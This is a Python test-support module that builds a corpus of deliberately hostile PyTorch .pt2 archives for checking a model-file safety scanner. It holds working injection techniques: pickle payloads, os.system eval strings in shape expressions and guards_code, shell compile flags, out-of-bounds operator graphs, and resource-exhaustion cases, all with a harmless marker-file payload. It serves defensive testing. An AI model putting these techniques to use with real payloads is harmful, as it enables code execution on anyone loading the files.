"""A corpus of hostile ``.pt2`` archives (harmless payloads: they create a marker file).

Each starts from a real ``torch.export.save`` of a tiny model with a dynamic
batch size, then one part is edited, the way an attacker would: payloads in
the places ``torch.export.load`` unpickles (``use_pickle`` weights and
constants, opaque objects, sample inputs, legacy weights), evaluates
(``sympy.sympify`` of shape expressions, ``guards_code``), loads as native
code (AOTInductor), or calls (graph node targets), and the archive-level
tricks (unknown or case-twin members, duplicate JSON keys, deep nesting,
sizes that lie).

``CONTROL`` lists the cases whose payload plain ``torch.export.load`` (and
``.module()``) really runs in torch 2.14; ``test_safety_pt2`` checks that in
a subprocess. For the others torch fails before or without running the
payload (noted per case); they are refused all the same, because the code
path they aim at exists.

``python tests/_hostile_pt2.py OUT_DIR`` writes the corpus and prints its index as JSON.
"""

from __future__ import annotations

import io
import json
import sys
import zipfile
from collections.abc import Callable
from dataclasses import asdict
from pathlib import Path
from typing import Any

import torch
from torch import nn

from _hostile import MARKER, PROTO, STOP, Case, legacy_payload, touch

# payloads torch 2.14 runs (seen in test_the_payloads_are_real); the value: is .module() needed
CONTROL = {
    "weights_use_pickle": False,
    "constants_use_pickle": False,
    "opaque_object": False,
    "sample_inputs_payload": False,
    "legacy_weights": False,
    "sympy_import_in_size": False,
    "sympy_lambda_in_sym_node": False,
    "guards_code": True,
    "duplicate_json_key": True,
}


class Tiny(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.fc = nn.Linear(4, 3)
        self.register_buffer("scale", torch.full((3,), 2.0), persistent=False)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(self.fc(x)) * self.scale


def benign_archive() -> dict[str, bytes]:
    """The members of a real ``torch.export.save`` of :class:`Tiny`, by name (root folder ``tiny/``)."""
    torch.manual_seed(0)
    batch = torch.export.Dim("batch", min=1, max=64)
    program = torch.export.export(Tiny().eval(), (torch.randn(2, 4),), dynamic_shapes={"x": {0: batch}})
    buffer = io.BytesIO()
    torch.export.save(program, buffer)
    with zipfile.ZipFile(buffer) as archive:
        records = {info.filename: archive.read(info.filename) for info in archive.infolist()}
    root = next(iter(records)).split("/", 1)[0]
    return {f"tiny/{name.split('/', 1)[1]}": data for name, data in records.items() if name.startswith(root)}


def write_zip(path: Path, records: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as archive:
        for name, data in records.items():
            archive.writestr(name, data)


def raw_payload(marker: Path) -> bytes:
    """A bare pickle that runs ``touch marker`` (what pickle.loads / torch.load would run)."""
    return PROTO + touch(marker) + STOP


def _edit_json(records: dict[str, bytes], name: str, edit: Callable[[Any], None]) -> None:
    doc = json.loads(records[name])
    edit(doc)
    records[name] = json.dumps(doc).encode()


def _graph(doc: Any) -> Any:
    return doc["graph_module"]["graph"]


def _first_node(doc: Any) -> Any:
    return _graph(doc)["nodes"][0]


def build(out: Path) -> list[Case]:
    """Write every hostile archive to ``out``; return the cases."""
    marker = out / MARKER
    base = benign_archive()
    weights_config = "tiny/data/weights/model_weights_config.json"
    constants_config = "tiny/data/constants/model_constants_config.json"
    program = "tiny/models/model.json"
    cases: list[Case] = []

    def case(
        name: str, records: dict[str, bytes], error: str = "UnsafeFileError", verdict: str = "UNSAFE"
    ) -> None:
        write_zip(out / f"{name}.pt2", records)
        cases.append(Case(name, f"{name}.pt2", error, verdict))

    def edited(name: str, edit: Callable[[Any], None]) -> dict[str, bytes]:
        records = dict(base)
        _edit_json(records, name, edit)
        return records

    # -- what torch unpickles ---------------------------------------------------
    def pickled_weight(doc: Any) -> None:
        doc["config"]["fc.weight"]["use_pickle"] = True

    records = edited(weights_config, pickled_weight)
    records["tiny/data/weights/" + json.loads(base[weights_config])["config"]["fc.weight"]["path_name"]] = (
        raw_payload(marker)
    )
    case("weights_use_pickle", records)  # _load_state_dict: torch.load(weights_only=False)

    def pickled_constant(doc: Any) -> None:
        doc["config"]["scale"]["use_pickle"] = True

    records = edited(constants_config, pickled_constant)
    records["tiny/data/constants/" + json.loads(base[constants_config])["config"]["scale"]["path_name"]] = (
        raw_payload(marker)
    )
    case("constants_use_pickle", records)  # _load_constants: torch.load(weights_only=False)

    def opaque(doc: Any) -> None:
        doc["config"]["scale"] = {
            "path_name": "opaque_obj_0",
            "is_param": False,
            "use_pickle": True,
            "tensor_meta": None,
        }

    records = edited(constants_config, opaque)
    records["tiny/data/constants/opaque_obj_0"] = raw_payload(marker)
    case("opaque_object", records)  # _load_constants: pickle.loads

    def torchbind(doc: Any) -> None:
        doc["config"]["scale"] = {
            "path_name": "custom_obj_0",
            "is_param": False,
            "use_pickle": True,
            "tensor_meta": None,
        }

    records = edited(constants_config, torchbind)
    # torch._C._pickle_load_obj expects torch's own archive format; this payload does not run there
    records["tiny/data/constants/custom_obj_0"] = raw_payload(marker)
    case("torchbind_object", records)

    records = dict(base)
    # deserialize_torch_artifact: torch.load(weights_only=True) refuses it, then retries weights_only=False
    records["tiny/data/sample_inputs/model.pt"] = raw_payload(marker)
    case("sample_inputs_payload", records)

    records = dict(base)
    records["tiny/data/weights/model.pt"] = legacy_payload(
        marker
    )  # the pre-2.8 layout, read first when present
    case("legacy_weights", records)

    # -- what torch evaluates -------------------------------------------------------
    evil = f"__import__('os').system('touch {marker}')"

    def size_expr(doc: Any) -> None:
        _graph(doc)["tensor_values"]["x"]["sizes"][0]["as_expr"]["expr_str"] = evil

    case("sympy_import_in_size", edited(program, size_expr))  # sympy.sympify -> eval

    def sym_node(doc: Any) -> None:
        _graph(doc)["sym_int_values"]["s_evil"] = {
            "as_expr": {"expr_str": f"(lambda: {evil})()", "hint": {"as_int": 2}}
        }
        _graph(doc)["tensor_values"]["x"]["sizes"][0]["as_expr"]["expr_str"] = f"(lambda: {evil})()"

    case("sympy_lambda_in_sym_node", edited(program, sym_node))

    def range_key(doc: Any) -> None:
        # torch keeps range-constraint keys as strings (no sympify), so this one does not run in 2.14
        doc["range_constraints"]["Symbol('s77').__class__.__init__.__globals__"] = {
            "min_val": 1,
            "max_val": 64,
        }

    case("sympy_attribute_in_range_constraint", edited(program, range_key))

    def guards(doc: Any) -> None:
        doc["guards_code"] = [f"{evil} == 0 or True"]

    case("guards_code", edited(program, guards))  # .module(): exec of the generated guard function

    records = dict(base)
    text = base[program].decode()
    assert text.endswith('"guards_code": []}')
    # Python's json keeps the last of two equal keys: a reader that checks the first sees no guards
    records[program] = (text[:-1] + f', "guards_code": [{json.dumps(evil + " == 0 or True")}]}}').encode()
    case("duplicate_json_key", records)

    # -- what torch calls -----------------------------------------------------------
    # torch 2.14 resolves targets by getattr from torch / _operator / math and keeps any other string as
    # the target; these graphs fail in torch before the node runs, so no control here
    for name, target in (
        ("target_builtins_exec", "builtins.exec"),
        ("target_os_system_via_torch", "torch.serialization.os.system"),
        ("target_custom_op", "torch.ops.mylib.custom.default"),
        ("target_builtins_open", "builtins.open"),
        ("target_higher_order", "torch.ops.higher_order.invoke_subgraph"),
    ):
        case(name, edited(program, lambda doc, target=target: _first_node(doc).__setitem__("target", target)))

    def forward_names(doc: Any) -> None:
        signature = doc["graph_module"]["module_call_graph"][0]["signature"]
        signature["forward_arg_names"] = [f"x=__import__('os').system('touch {marker}')"]

    case("code_in_forward_arg_names", edited(program, forward_names))

    # -- native code ------------------------------------------------------------------
    records = dict(base)
    records["tiny/data/aotinductor/model/model.so"] = b"\x7fELF" + b"\0" * 60  # torch would dlopen it
    case("aoti_shared_library", records)

    records = dict(base)
    records["tiny/data/aotinductor/model/model_compile_flags.json"] = json.dumps(
        {"compiler": f"sh -c 'touch {marker}'"}
    ).encode()
    case("aoti_compile_flags", records)

    # -- the archive itself -----------------------------------------------------------
    records = dict(base)
    records["tiny/notes/readme.txt"] = b"hello"
    case("unknown_member", records)

    records = dict(base)
    records["tiny/Models/model.json"] = base[program]
    case("member_case_twin", records)

    records = dict(base)
    nested = "[" * 5000 + "]" * 5000
    records[program] = (
        base[program].decode().replace('"metadata": {}', f'"metadata": {{"deep": {nested}}}', 1).encode()
    )
    case("json_nested_deep", records)

    # -- operators outside the allowlist (memory safety, process state) ------------------
    def tmeta(sizes: list[int], dtype: int = 7) -> dict[str, Any]:
        strides = [1] * len(sizes)
        for i in range(len(sizes) - 2, -1, -1):
            strides[i] = strides[i + 1] * sizes[i + 1]
        return {
            "dtype": dtype,
            "sizes": [{"as_int": n} for n in sizes],
            "requires_grad": False,
            "device": {"type": "cpu", "index": None},
            "strides": [{"as_int": n} for n in strides],
            "storage_offset": {"as_int": 0},
            "layout": 7,
        }

    def call(target: str, inputs: list[tuple[str, Any]], out: str) -> dict[str, Any]:
        return {
            "target": target,
            "inputs": [{"name": n, "arg": a, "kind": 1} for n, a in inputs],
            "outputs": [{"as_tensor": {"name": out}}],
            "metadata": {},
            "is_hop_single_tensor_return": None,
            "name": out,
        }

    def returning(doc: Any, nodes: list[dict[str, Any]], values: dict[str, Any], out: str) -> None:
        _graph(doc)["nodes"].extend(nodes)
        _graph(doc)["tensor_values"].update(values)
        _graph(doc)["outputs"] = [{"as_tensor": {"name": out}}]
        doc["graph_module"]["signature"]["output_specs"] = [
            {"user_output": {"arg": {"as_tensor": {"name": out}}}}
        ]

    def oob_read(doc: Any) -> None:
        # strides far past the 8-element storage: clone copies heap memory out (review a01)
        alias = call(
            "torch.ops.aten._reshape_alias.default",
            [
                ("self", {"as_tensor": {"name": "x"}}),
                ("size", {"as_sym_ints": [{"as_int": 64}, {"as_int": 4}]}),
                ("stride", {"as_sym_ints": [{"as_int": 4096}, {"as_int": 1}]}),
            ],
            "alias",
        )
        leak = call("torch.ops.aten.clone.default", [("self", {"as_tensor": {"name": "alias"}})], "leak")
        returning(doc, [alias, leak], {"alias": tmeta([64, 4]), "leak": tmeta([64, 4])}, "leak")

    case("op_reshape_alias_oob_read", edited(program, oob_read))

    def oob_write(doc: Any) -> None:
        # an index of 2**40 into a 4-element dense tensor: _to_dense writes out of bounds (review a02)
        idx = call(
            "torch.ops.aten.full.default",
            [
                ("size", {"as_ints": [1, 1]}),
                ("fill_value", {"as_int": 1 << 40}),
                ("dtype", {"as_scalar_type": 5}),
            ],
            "idx",
        )
        vals = call(
            "torch.ops.aten.full.default",
            [("size", {"as_ints": [1]}), ("fill_value", {"as_float": 7.0})],
            "vals",
        )
        sparse = call(
            "torch.ops.aten._sparse_coo_tensor_unsafe.default",
            [
                ("indices", {"as_tensor": {"name": "idx"}}),
                ("values", {"as_tensor": {"name": "vals"}}),
                ("size", {"as_sym_ints": [{"as_int": 4}]}),
            ],
            "sp",
        )
        dense = call("torch.ops.aten._to_dense.default", [("self", {"as_tensor": {"name": "sp"}})], "dense")
        values = {"idx": tmeta([1, 1], dtype=5), "vals": tmeta([1]), "sp": tmeta([4]), "dense": tmeta([4])}
        returning(doc, [idx, vals, sparse, dense], values, "dense")

    case("op_sparse_oob_write", edited(program, oob_write))

    def grad_off(doc: Any) -> None:
        # switches autograd off in the caller's thread (review a05)
        node = call("torch.ops.aten.set_grad_enabled.default", [("val", {"as_bool": False})], "gradoff")
        node["outputs"] = []
        _graph(doc)["nodes"].append(node)

    case("op_set_grad_enabled", edited(program, grad_off))

    # -- Python arithmetic on unbounded integers (review a03) ------------------------------
    def python_node(target: str, a: Any, b: Any) -> Callable[[Any], None]:
        def edit(doc: Any) -> None:
            _graph(doc)["nodes"].append(
                {
                    "target": target,
                    "inputs": [{"name": "a", "arg": a, "kind": 1}, {"name": "b", "arg": b, "kind": 1}],
                    "outputs": [{"as_sym_int": {"as_name": "big"}}],
                    "metadata": {},
                    "is_hop_single_tensor_return": None,
                    "name": "big",
                }
            )
            _graph(doc)["sym_int_values"]["big"] = {"as_int": 1}

        return edit

    # pow(3, 2**40) holds the GIL for hours; mul("A", 2**34) builds a 16 GiB string
    case(
        "python_pow_huge_exponent",
        edited(program, python_node("_operator.pow", {"as_int": 3}, {"as_int": 1 << 40})),
    )
    case(
        "python_mul_string",
        edited(program, python_node("_operator.mul", {"as_string": "A"}, {"as_int": 1 << 34})),
    )
    case(
        "python_int_past_int64",
        edited(program, python_node("_operator.add", {"as_int": 1 << 70}, {"as_int": 1})),
    )

    def squaring(doc: Any) -> None:
        # each node squares the last: 2**62 -> 2**(62 * 2**k) bits after k nodes, gigabytes after ~30
        python_node("_operator.mul", {"as_int": 1 << 62}, {"as_int": 1 << 62})(doc)
        for i in range(30):
            python_node(
                "_operator.mul",
                {"as_sym_int": {"as_name": "big" if i == 0 else f"sq{i - 1}"}},
                {"as_sym_int": {"as_name": "big" if i == 0 else f"sq{i - 1}"}},
            )(doc)
            node = _graph(doc)["nodes"][-1]
            node["name"] = f"sq{i}"
            node["outputs"] = [{"as_sym_int": {"as_name": f"sq{i}"}}]

    case("python_repeated_squaring", edited(program, squaring))

    # -- sympy simplification of a 2**20-term expansion (review a04: hours in FloorDiv.eval) --------
    def expansion(doc: Any) -> None:
        product = "*".join(f"(s{2 * i + 1}+s{2 * i + 2})" for i in range(20))
        _graph(doc)["tensor_values"]["linear"]["sizes"][0] = {
            "as_expr": {"expr_str": f"FloorDiv({product}, s1+s3+1)", "hint": {"as_int": 2}}
        }

    case("sympy_expansion_k20", edited(program, expansion))

    def string_input(doc: Any) -> None:
        # a string placeholder value becomes guard code once sample inputs pass through .module()
        _graph(doc)["inputs"].append({"as_string": "__import__('os')"})

    case("string_graph_input", edited(program, string_input))

    # -- a compressed weight: inflated in memory up to 100x the file (review a06) ------------
    records = dict(base)
    weight = "tiny/data/weights/" + json.loads(base[weights_config])["config"]["fc.weight"]["path_name"]
    deflated = out / "weight_deflated.pt2"
    with zipfile.ZipFile(deflated, "w") as archive:
        for name, data in records.items():
            method = zipfile.ZIP_DEFLATED if name == weight else zipfile.ZIP_STORED
            archive.writestr(name, data, compress_type=method)
    cases.append(Case("weight_deflated", "weight_deflated.pt2", "UnsafeFileError", "UNSAFE"))

    def lying_size(doc: Any) -> None:
        doc["config"]["fc.weight"]["tensor_meta"]["sizes"] = [{"as_int": 300}, {"as_int": 4}]

    case("weight_size_lies", edited(weights_config, lying_size), "CorruptFileError", "CORRUPT")
    return cases


if __name__ == "__main__":
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    print(json.dumps([asdict(c) for c in build(folder)]))
